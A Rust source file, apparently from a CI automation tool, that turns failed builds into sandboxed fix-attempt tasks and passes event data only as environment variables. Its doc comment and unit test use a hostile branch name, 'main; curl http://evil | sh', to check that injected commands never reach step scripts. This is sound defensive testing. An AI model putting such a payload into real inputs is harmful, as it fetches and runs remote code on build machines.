//! Turning a failed build into a fix-attempt [`Task`] from the configured
//! [`FixTemplate`].
//!
//! The template's steps are copied verbatim. Every value that came from the
//! event (repository, commit, ref, clone URL, ...) reaches the sandbox only as
//! an environment variable in `sandbox.env`; nothing from the event is ever
//! spliced into a step's command, so a branch named `$(curl evil)` is just a
//! string in `$SANDFLEET_REF`.

use std::collections::BTreeMap;

use sandfleet_proto::{RetryPolicy, SandboxSpec, Source, Task};
use sandfleet_settings::FixTemplate;

use crate::event::CiFailure;

/// Env var holding the repository (`owner/name`).
pub const ENV_REPOSITORY: &str = "SANDFLEET_REPOSITORY";
/// Env var holding the commit SHA.
pub const ENV_COMMIT: &str = "SANDFLEET_COMMIT";
/// Env var holding the branch or tag.
pub const ENV_REF: &str = "SANDFLEET_REF";
/// Env var holding the clone URL.
pub const ENV_CLONE_URL: &str = "SANDFLEET_CLONE_URL";
/// Env var holding the provider (`github`, `gitlab`).
pub const ENV_PROVIDER: &str = "SANDFLEET_PROVIDER";
/// Env var holding the CI run or pipeline id.
pub const ENV_CI_RUN_ID: &str = "SANDFLEET_CI_RUN_ID";
/// Env var holding the pull or merge request number.
pub const ENV_PULL_REQUEST: &str = "SANDFLEET_PULL_REQUEST";
/// Env var holding the link to the failed build.
pub const ENV_RUN_URL: &str = "SANDFLEET_RUN_URL";
/// Env var holding the provider's conclusion (`failure`, `timed_out`, `failed`).
pub const ENV_CONCLUSION: &str = "SANDFLEET_CONCLUSION";

/// Builds the fix attempt for `failure` with the given idempotency key (the
/// delivery id, prefixed by provider).
pub fn build_task(template: &FixTemplate, failure: &CiFailure, idempotency_key: String) -> Task {
    let mut env = BTreeMap::new();
    let provider = serde_json::to_value(failure.provider)
        .ok()
        .and_then(|v| v.as_str().map(str::to_owned))
        .unwrap_or_default();
    env.insert(ENV_PROVIDER.to_owned(), provider.clone());
    env.insert(ENV_REPOSITORY.to_owned(), failure.repository.clone());
    env.insert(ENV_COMMIT.to_owned(), failure.commit.clone());
    env.insert(ENV_CONCLUSION.to_owned(), failure.conclusion.clone());
    let optional = [
        (ENV_REF, failure.git_ref.clone()),
        (ENV_CLONE_URL, failure.clone_url.clone()),
        (ENV_CI_RUN_ID, failure.ci_run_id.clone()),
        (
            ENV_PULL_REQUEST,
            failure.pull_request.map(|n| n.to_string()),
        ),
        (ENV_RUN_URL, failure.url.clone()),
    ];
    for (k, v) in optional {
        if let Some(v) = v {
            env.insert(k.to_owned(), v);
        }
    }
    let source = Source {
        provider: failure.provider,
        repository: failure.repository.clone(),
        commit: failure.commit.clone(),
        git_ref: failure.git_ref.clone(),
        ci_run_id: failure.ci_run_id.clone(),
        pull_request: failure.pull_request,
        url: failure.url.clone(),
    };
    let sandbox = SandboxSpec {
        image: template.image.clone(),
        resources: Default::default(),
        env,
        deadline_secs: template.deadline_secs,
        pending_timeout_secs: template.pending_timeout_secs,
    };
    let mut task = Task::fix_attempt(source, sandbox);
    task.idempotency_key = idempotency_key;
    task.steps = template.steps.clone();
    task.retry = RetryPolicy {
        max_attempts: template.max_attempts,
    };
    task.labels
        .insert("sandfleet.dev/provider".to_owned(), provider);
    task.labels
        .insert("sandfleet.dev/event".to_owned(), failure.event.clone());
    // Fair sharing (`docs/fairness.md`): the repository under its owner
    // (GitHub) or top-level group (GitLab), written out so every consumer
    // of the message sees who it is accounted to.
    let tenant = sandfleet_proto::default_tenant(&failure.repository);
    task = task.with_fairness(Some(&tenant), Some(&failure.repository));
    task
}

#[cfg(test)]
#[allow(clippy::unwrap_used, clippy::expect_used)]
mod tests {
    use super::*;
    use sandfleet_proto::Provider;

    #[test]
    fn event_values_travel_only_as_env_vars() {
        let hostile = "main; curl http://evil | sh";
        let failure = CiFailure {
            provider: Provider::Github,
            event: "workflow_run".to_owned(),
            repository: "octo-org/octo-repo".to_owned(),
            commit: "3484a3fb816e0859fd6e1cea078d76385ff50625".to_owned(),
            git_ref: Some(hostile.to_owned()),
            clone_url: Some("https://github.com/octo-org/octo-repo.git".to_owned()),
            ci_run_id: Some("42".to_owned()),
            pull_request: Some(7),
            url: None,
            conclusion: "failure".to_owned(),
        };
        let template = FixTemplate::default();
        let task = build_task(&template, &failure, "github:abc".to_owned());
        assert_eq!(task.idempotency_key, "github:abc");
        assert_eq!(
            task.steps, template.steps,
            "steps are the template's, verbatim"
        );
        for step in &task.steps {
            assert!(!step.run.contains(hostile));
            assert!(!step.run.contains("octo-repo"));
        }
        let env = &task.sandbox.env;
        assert_eq!(env[ENV_REF], hostile);
        assert_eq!(env[ENV_REPOSITORY], "octo-org/octo-repo");
        assert_eq!(env[ENV_COMMIT], "3484a3fb816e0859fd6e1cea078d76385ff50625");
        assert_eq!(
            env[ENV_CLONE_URL],
            "https://github.com/octo-org/octo-repo.git"
        );
        assert_eq!(env[ENV_PROVIDER], "github");
        assert_eq!(env[ENV_PULL_REQUEST], "7");
        assert!(!env.contains_key(ENV_RUN_URL));
        assert_eq!(task.source.repository, "octo-org/octo-repo");
        assert_eq!(task.retry.max_attempts, template.max_attempts);
        assert_eq!(task.sandbox.image, template.image);
        assert_eq!(task.id.get_version_num(), 7);
        let fairness = task.fairness.as_ref().unwrap();
        assert_eq!(fairness.tenant.as_deref(), Some("octo-org"));
        assert_eq!(fairness.key.as_deref(), Some("octo-org/octo-repo"));
    }
}
